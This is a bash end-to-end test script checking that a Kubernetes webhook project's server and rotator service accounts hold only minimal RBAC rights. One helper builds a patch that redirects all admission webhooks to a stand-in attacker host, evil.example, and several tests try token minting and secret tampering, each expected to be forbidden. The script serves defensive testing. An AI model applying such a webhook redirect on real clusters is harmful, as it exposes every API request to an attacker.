# SPDX-License-Identifier: Apache-2.0
# 15-rights.sh - what whoever takes over a server, or the rotator, may do: their tokens, tried.
# shellcheck shell=bash

# forbidden ACCOUNT ARGS...: the API server knows it, and refuses it.
forbidden() {
    person "$@"
    fails
    prints ' is forbidden: User "system:serviceaccount:'
}
# rights: of `kubectl auth can-i --list`, without what everybody may.
rights() {
    said=$(awk '$1 != "Resources" && $1 !~ /^selfsubject/ && $1 !~ /^\[/ { gsub(/ +/, " "); print }' <<< "$said" | LC_ALL=C sort)
}
# account NAME PERSON: its token, as a pod of it has one.
account() {
    admin create token "$1" -n $system --duration=10m
    becomes "$2"
}
# evil ENTRY: it is asked about everything, somewhere else.
evil() {
    echo '{"webhooks": [{"name": "'"$1"'", "clientConfig": {"service": null, "url": "https://evil.example/"},
        "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
}
# shellcheck disable=SC2120 # ACCOUNT, else curfew
a_token_secret() {
    cat << END
apiVersion: v1
kind: Secret
metadata: {name: mine, namespace: $system, annotations: {kubernetes.io/service-account.name: ${1:-curfew}}}
type: kubernetes.io/service-account-token
END
}

scenario 'rights: a server lists and watches, and gets the Secret of its certificate, and that is all'
account curfew server
person server auth can-i --list -n $system
rights
said_is 'namespaces [] [] [list watch]
persistentvolumeclaims [] [] [list watch]
persistentvolumes [] [] [list watch]
pods [] [] [list watch]
secrets [] [] [list watch]
secrets [] [curfew-tls] [get]
serviceaccounts [] [] [list watch]'
person server get secret curfew-tls -n $system -o name
said_is secret/curfew-tls

scenario 'rights: a server cannot change whom the API server asks'
forbidden server patch mutatingwebhookconfiguration curfew --dry-run=server -p "$(evil mutate.curfew.dev)"
forbidden server patch validatingwebhookconfiguration curfew --dry-run=server -p "$(evil validate.curfew.dev)"
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    forbidden server get $kind curfew
    forbidden server delete $kind curfew --dry-run=server
done

scenario 'rights: a server cannot write a Secret, read another one, or make a token'
forbidden server patch secret curfew-tls -n $system --dry-run=server -p '{"data": {"tls.key": "eA=="}}'
forbidden server delete secret curfew-tls -n $system --dry-run=server
forbidden server get secret web-token -n shop
forbidden server create token curfew -n $system
forbidden server create token curfew-rotator -n $system
a_token_secret > "$E2E_WORK/mine.yaml"
forbidden server create --dry-run=server -f "$E2E_WORK/mine.yaml"
forbidden server create deployment x --image=x -n $system --dry-run=server

scenario 'rights: the rotator keeps one Secret and two webhook configurations, and that is all'
account curfew-rotator rotator
person rotator auth can-i --list -n $system
rights
said_is 'mutatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]
secrets [] [] [create]
secrets [] [curfew-tls] [get update]
validatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]'
forbidden rotator get secrets -A
forbidden rotator get secret web-token -n shop
forbidden rotator get pods -A
forbidden rotator get validatingwebhookconfigurations
forbidden rotator create token curfew -n $system

scenario 'rights: both pods run as the restricted Pod Security Standard wants them, on one short token each'
admin get pods -n $system -o jsonpath='{range .items[*]}{.spec.automountServiceAccountToken} {.spec.containers[0].securityContext.readOnlyRootFilesystem} {.spec.volumes[?(@.name=="token")].projected.sources[0].serviceAccountToken.expirationSeconds}{"\n"}{end}'
said=$(sort -u <<< "$said")
said_is 'false true 3600'
